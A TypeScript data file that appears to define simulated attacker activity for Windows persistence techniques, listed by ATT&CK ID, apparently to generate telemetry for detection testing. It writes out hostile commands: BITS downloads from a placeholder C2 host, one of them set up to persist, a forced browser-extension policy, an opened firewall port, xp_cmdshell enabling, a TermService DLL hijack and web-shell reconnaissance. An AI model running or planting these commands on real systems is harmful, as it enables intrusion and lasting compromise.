import { t, v } from "../dsl";

/** Persistence: autostart locations written the way malware and operators write them. (continued) */
export const persistenceB = [
  t("T1137.006", "Office add-ins", "XLL/WLL add-ins dropped in the Office startup folders or registered.", [
    v("xll", [
      {
        cmd: 'cmd.exe /c copy /y {{downloads}}\\{{rand}}.xll "{{appdata}}\\Microsoft\\AddIns\\{{rand}}.xll"',
        files: ["{{appdata}}\\Microsoft\\AddIns\\{{rand}}.xll"],
      },
      {
        cmd: 'reg add "HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Options" /v OPEN /t REG_SZ /d "/R {{appdata}}\\Microsoft\\AddIns\\{{rand}}.xll" /f',
        reg: [
          [
            "HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Options",
            "OPEN",
            "/R {{appdata}}\\Microsoft\\AddIns\\{{rand}}.xll",
          ],
        ],
      },
    ]),
    v("wll", [
      {
        cmd: 'cmd.exe /c copy {{tmp}}\\{{rand}}.wll "{{appdata}}\\Microsoft\\Word\\STARTUP\\{{rand}}.wll"',
        files: ["{{appdata}}\\Microsoft\\Word\\STARTUP\\{{rand}}.wll"],
      },
    ]),
  ]),
  t("T1176", "Software extensions", "A browser extension force-loaded through policy or --load-extension.", [
    v("load-extension", [
      '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --load-extension="{{local}}\\{{rand}}" --restore-last-session',
    ]),
  ]),
  t(
    "T1176.001",
    "Browser extensions",
    "Chrome/Edge extension installed via ExtensionInstallForcelist or --load-extension.",
    [
      v(
        "forcelist",
        [
          {
            cmd: 'reg add "HKLM\\SOFTWARE\\Policies\\Google\\Chrome\\ExtensionInstallForcelist" /v 1 /t REG_SZ /d "{{rand2}}abcdefghijklmnop;https://{{c2}}/update.xml" /f',
            reg: [
              [
                "HKLM\\SOFTWARE\\Policies\\Google\\Chrome\\ExtensionInstallForcelist",
                "1",
                "{{rand2}}abcdefghijklmnop;https://{{c2}}/update.xml",
              ],
            ],
          },
        ],
        { elevated: true },
      ),
      v("load-extension", [
        {
          cmd: '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --load-extension="{{local}}\\Temp\\ext" --no-first-run',
          image: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        },
      ]),
    ],
  ),
  t("T1176.002", "IDE extensions", "A VS Code extension installed from a VSIX.", [
    v("code-install", [
      '"{{local}}\\Programs\\Microsoft VS Code\\Code.exe" --install-extension {{tmp}}\\{{rand}}.vsix',
    ]),
  ]),
  t(
    "T1197",
    "BITS jobs",
    "bitsadmin and Start-BitsTransfer used to download and to persist with SetNotifyCmdLine.",
    [
      v("bitsadmin-transfer", [
        {
          cmd: "bitsadmin /transfer {{name}} /download /priority high http://{{c2}}/{{rand}}.exe {{tmp}}\\{{rand}}.exe",
          net: [["{{c2}}", 80]],
        },
      ]),
      v("bitsadmin-notify", [
        "bitsadmin /create {{name}}",
        "bitsadmin /addfile {{name}} https://{{c2}}/u.exe C:\\ProgramData\\u.exe",
        "bitsadmin /SetNotifyCmdLine {{name}} C:\\ProgramData\\u.exe NULL",
        "bitsadmin /resume {{name}}",
      ]),
      v(
        "start-bitstransfer",
        [
          {
            ps: "Start-BitsTransfer -Source https://{{c2}}/{{rand}}.ps1 -Destination $env:TEMP\\{{rand}}.ps1",
            by: "sh",
            net: [["{{c2}}", 443]],
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t("T1205", "Traffic signaling", "A listener waiting for a magic packet (port-knocking backdoor).", [
    v(
      "netsh-portproxy",
      [
        {
          cmd: "netsh interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=3389 connectaddress=127.0.0.1",
          reg: [
            [
              "HKLM\\SYSTEM\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp",
              "0.0.0.0/8443",
              "127.0.0.1/3389",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1205.001", "Port knocking", "A backdoor opening a firewall port after a knock sequence.", [
    v(
      "netsh-firewall",
      ['netsh advfirewall firewall add rule name="{{name}}" dir=in action=allow protocol=TCP localport=4444'],
      { elevated: true },
    ),
  ]),
  t(
    "T1205.002",
    "Socket filters",
    "A raw-socket sniffing implant (WinDivert) triggered by crafted packets.",
    [
      v(
        "windivert",
        [
          {
            cmd: "{{tools}}\\{{name}}.exe",
            then: [
              {
                id: "d",
                kind: "driver.load",
                image: "{{tools}}\\WinDivert64.sys",
                signed: true,
                signature: "Basil",
              },
            ],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1505", "Server software component", "A malicious module loaded into a server process.", [
    v(
      "iis-module",
      [
        {
          cmd: "C:\\Windows\\System32\\inetsrv\\appcmd.exe install module /name:{{name}} /image:C:\\Windows\\System32\\inetsrv\\{{rand}}.dll",
          host: "@server",
          parent: "@wmiprvse",
          user: "@admin",
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1505.001", "SQL stored procedures", "xp_cmdshell enabled and used from sqlservr.exe.", [
    v("xp-cmdshell", [
      {
        cmd: "sqlcmd -S {{srv}} -Q \"EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE;\"",
        net: [["@server", 1433]],
      },
    ]),
  ]),
  t("T1505.002", "Transport agent", "An Exchange transport agent installed with Install-TransportAgent.", [
    v(
      "install-transportagent",
      [
        {
          ps: "Install-TransportAgent -Name '{{name}}' -TransportAgentFactory Microsoft.Exchange.Security.Interop.SecurityInteropAgentFactory -AssemblyPath 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\{{rand}}.dll'; Enable-TransportAgent {{name}}",
        },
      ],
      { shell: "ps", elevated: true },
    ),
  ]),
  t("T1505.003", "Web shell", "An ASPX web shell in inetpub; w3wp.exe then spawns cmd.exe.", [
    v(
      "aspx-w3wp",
      [
        {
          cmd: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm{{rand}} -h "C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config" -w "" -m 0',
          as: "w3",
          host: "@server",
          parent: "@svchost:netsvcs",
          user: "@networkservice",
          files: ["C:\\inetpub\\wwwroot\\aspnet_client\\{{rand}}.aspx"],
          keep: true,
        },
        {
          cmd: 'cmd.exe /c "cd /d "C:\\inetpub\\wwwroot\\aspnet_client"&whoami&echo [S]&cd&echo [E]"',
          parent: "w3",
          host: "@server",
        },
        { cmd: "whoami", parent: "prev", host: "@server" },
      ],
      { shell: "none" },
    ),
    v(
      "exchange-owa",
      [
        {
          cmd: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm{{rand}} -h "C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config" -w "" -m 0',
          as: "w3",
          host: "@server",
          parent: "@svchost:netsvcs",
          user: "@system",
          files: [
            "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\{{rand}}.aspx",
          ],
          keep: true,
        },
        {
          cmd: "cmd.exe /c powershell -ep bypass -c \"net group 'Exchange Trusted Subsystem' /domain\"",
          parent: "w3",
          host: "@server",
          as: "c",
        },
        {
          cmd: "powershell  -ep bypass -c \"net group 'Exchange Trusted Subsystem' /domain\"",
          parent: "c",
          host: "@server",
          as: "ps",
        },
        {
          cmd: '"C:\\Windows\\system32\\net.exe" group "Exchange Trusted Subsystem" /domain',
          parent: "ps",
          host: "@server",
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1505.004", "IIS components", "A native IIS module installed with appcmd.", [
    v(
      "appcmd-module",
      [
        {
          cmd: "C:\\Windows\\System32\\inetsrv\\appcmd.exe install module /name:{{name}} /image:C:\\Windows\\System32\\inetsrv\\{{rand}}.dll /add:true",
          host: "@server",
          parent: "@wmiprvse",
          user: "@admin",
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1505.005", "Terminal Services DLL", "TermService ServiceDll pointed at an attacker DLL.", [
    v(
      "reg-servicedll",
      [
        {
          cmd: 'reg add "HKLM\\System\\CurrentControlSet\\Services\\TermService\\Parameters" /v ServiceDll /t REG_EXPAND_SZ /d "C:\\Windows\\System32\\{{rand}}.dll" /f',
          reg: [
            [
              "HKLM\\System\\CurrentControlSet\\Services\\TermService\\Parameters",
              "ServiceDll",
              "C:\\Windows\\System32\\{{rand}}.dll",
              "REG_EXPAND_SZ",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
];
